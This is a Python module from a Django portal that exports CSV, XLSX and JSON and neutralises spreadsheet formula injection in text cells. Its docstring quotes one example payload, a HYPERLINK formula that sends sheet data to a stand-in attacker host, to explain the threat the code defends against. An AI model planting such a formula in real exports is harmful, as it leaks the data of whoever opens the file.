"""The one exporter every CSV/XLSX download of the portal goes through (and safe cells for re-import).

A text cell that starts with `=`, `+`, `-`, `@` (or a tab/carriage return) is run as a formula by
Excel and LibreOffice when a CSV is opened ("CSV injection"): a system named
`=HYPERLINK("https://evil.example/?"&A1, "Open")` would exfiltrate the sheet of whoever opens the
export. CSV cells get a leading apostrophe, which spreadsheets show as plain text; XLSX cells are
written with the string type, so they keep their exact value and are never evaluated. Imports undo
the apostrophe, so an exported file re-imports unchanged.

`export_response()` is what a view returns: CSV is streamed row by row in UTF-8 with a byte-order
mark (so Excel opens Cyrillic correctly); XLSX is written by openpyxl in write-only mode, which
spools rows to a temporary file instead of building the sheet in memory. An export too large to
build while the person waits runs as a background job that writes the workbook with `xlsx_write`
to storage (see `registry.jobs`).
"""

from __future__ import annotations

import csv
import datetime
import decimal
import io
import json
from collections.abc import Callable, Iterable, Iterator, Sequence
from dataclasses import dataclass

from django.http import HttpResponse, StreamingHttpResponse
from django.utils import timezone, translation
from django.utils.functional import Promise

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
EXPORT_FORMATS = ("csv", "xlsx")
CSV_CONTENT_TYPE = "text/csv; charset=utf-8"
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
# Values a spreadsheet stores as they are; anything else is written as text.
_NATIVE = (int, float, decimal.Decimal, datetime.date, datetime.datetime, datetime.time)
CSV_BATCH_ROWS = 100  # rows (or JSON items) sent to the client in one piece


@dataclass
class Sheet:
    """One sheet of an export: its title (at most 31 characters in XLSX) and its rows, header first.

    `rows` may be a generator: it is read once, row by row, while the file is written.
    """

    title: str
    rows: Iterable[Sequence]


def csv_cell(value):
    """The value as written to a CSV cell: text that a spreadsheet would evaluate is neutralised."""
    if isinstance(value, Promise):
        value = str(value)
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_row(values: Iterable) -> list:
    # Plain text, nearly every cell of a large export, is checked inline: `csv_cell` per cell
    # costs a function call and two type checks, a sixth of a 10,000-row export's time.
    return [
        (("'" + value) if value.startswith(FORMULA_STARTS) else value)
        if value.__class__ is str
        else csv_cell(value)
        for value in values
    ]


def imported_cell(value: str) -> str:
    """Undo `csv_cell` on a cell read back from an exported file."""
    if value.startswith("'") and value[1:].startswith(FORMULA_STARTS):
        return value[1:]
    return value


# Text that openpyxl would store as a formula ("=…") or an error value ("#N/A", …) if given as it is.
_XLSX_TYPED = ("=", "#")


def xlsx_row(sheet, values: Iterable) -> list:
    """Cells for `sheet.append()` in a write-only workbook: text is always text, never a formula."""
    # Lazy on purpose: openpyxl is a heavy import that only spreadsheet work needs.
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    illegal = ILLEGAL_CHARACTERS_RE.search
    cells = []
    for value in values:
        if value.__class__ is str and not value.startswith(_XLSX_TYPED) and not illegal(value):
            # Plain text, nearly every cell, is given as it is: openpyxl writes it as the same
            # string cell without a cell object of ours (a quarter of a large export's time). Text
            # it would read as a formula or an error value, or holding characters the format
            # forbids, takes the long way below.
            cells.append(value)
            continue
        if isinstance(value, datetime.datetime) and timezone.is_aware(value):
            value = timezone.localtime(value).replace(tzinfo=None)  # XLSX has no time zones
        if value is None or isinstance(value, (bool, *_NATIVE)):
            cells.append(value)
            continue
        # Control characters are not allowed in the file format: dropped rather than a 500.
        cell = WriteOnlyCell(sheet, value=ILLEGAL_CHARACTERS_RE.sub("", str(value)))
        cell.data_type = "s"  # openpyxl would store "=…" as a formula
        cells.append(cell)
    return cells


class _Echo:
    """A file-like object whose write() hands back what it was given (for streaming csv.writer)."""

    def write(self, value):
        return value


def csv_stream(rows: Iterable[Sequence]) -> Iterator[str]:
    """The rows as CSV text, one line at a time, after a byte-order mark, every cell neutralised.

    The generator runs after the view has returned: labels are translated in the language that was
    active when it was made (read here, outside the generator, whose body runs only when the
    server reads the first line).
    """
    return _csv_lines(rows, translation.get_language())


def _csv_lines(rows: Iterable[Sequence], language: str) -> Iterator[str]:
    writer = csv.writer(_Echo())
    yield "\ufeff"  # so Excel opens the UTF-8 file with Cyrillic intact
    with translation.override(language):
        # Lines are sent in batches: one piece per row would be one write to the socket per row.
        lines = []
        for row in rows:
            lines.append(writer.writerow(csv_row(row)))
            if len(lines) == CSV_BATCH_ROWS:
                yield "".join(lines)
                lines = []
        if lines:
            yield "".join(lines)


def json_stream(items: Iterable) -> Iterator[str]:
    """`json.dumps(list(items), ensure_ascii=False, indent=1)`, the same text a batch of items at a
    time, so a long export is never held whole: each item is dumped alone and indented one level
    more (a line break inside a JSON string is always escaped, so every real one is layout)."""
    opening, batch = "[\n ", []
    for item in items:
        batch.append(opening + json.dumps(item, ensure_ascii=False, indent=1).replace("\n", "\n "))
        opening = ",\n "
        if len(batch) == CSV_BATCH_ROWS:
            yield "".join(batch)
            batch = []
    yield "".join(batch) + ("[]" if opening == "[\n " else "\n]")


def xlsx_write(sheets: Sequence[Sheet], target, progress: Callable[[int], None] | None = None) -> None:
    """Write the sheets as an XLSX workbook to `target` (a binary file), in openpyxl's write-only
    mode: rows are spooled to disk as they come, so memory stays flat whatever their number.
    `progress(rows)` is told every 500 rows written."""
    from openpyxl import Workbook

    workbook = Workbook(write_only=True)
    written = 0
    for sheet in sheets:
        worksheet = workbook.create_sheet(str(sheet.title)[:31])
        for row in sheet.rows:
            worksheet.append(xlsx_row(worksheet, row))
            written += 1
            if progress is not None and written % 500 == 0:
                progress(written)
    workbook.save(target)


def xlsx_bytes(sheets: Sequence[Sheet]) -> bytes:
    """The sheets as an XLSX workbook in memory (small exports: a pack's sheet, tests)."""
    buffer = io.BytesIO()
    xlsx_write(sheets, buffer)
    return buffer.getvalue()


def mark_export(response, *, fmt: str, filename: str):
    """Mark `response` as an export of the organization's data, so the activity log records who
    exported what (`kzai.activity.middleware` writes the entry once the view has answered).

    `export_response` marks every spreadsheet; other exports of compliance data (the activity
    log as JSON, an inspection pack) call this themselves.
    """
    response.kzai_export = {"format": fmt, "file": filename}
    return response


def export_response(fmt: str, *, filename: str, sheets: Sequence[Sheet]):
    """The download a view returns: `fmt` "xlsx" gives every sheet, anything else a CSV of the first.

    `filename` is without its extension.
    """
    if fmt == "xlsx":
        # Rows are spooled to disk while written; only the compressed file is held (a large
        # export runs as a background job instead, see `KZAI_EXPORT_BACKGROUND_ROWS`).
        response = HttpResponse(xlsx_bytes(sheets), content_type=XLSX_CONTENT_TYPE)
        response["Content-Disposition"] = f'attachment; filename="{filename}.xlsx"'
        return mark_export(response, fmt="xlsx", filename=f"{filename}.xlsx")
    response = StreamingHttpResponse(csv_stream(sheets[0].rows), content_type=CSV_CONTENT_TYPE)
    response["Content-Disposition"] = f'attachment; filename="{filename}.csv"'
    return mark_export(response, fmt="csv", filename=f"{filename}.csv")
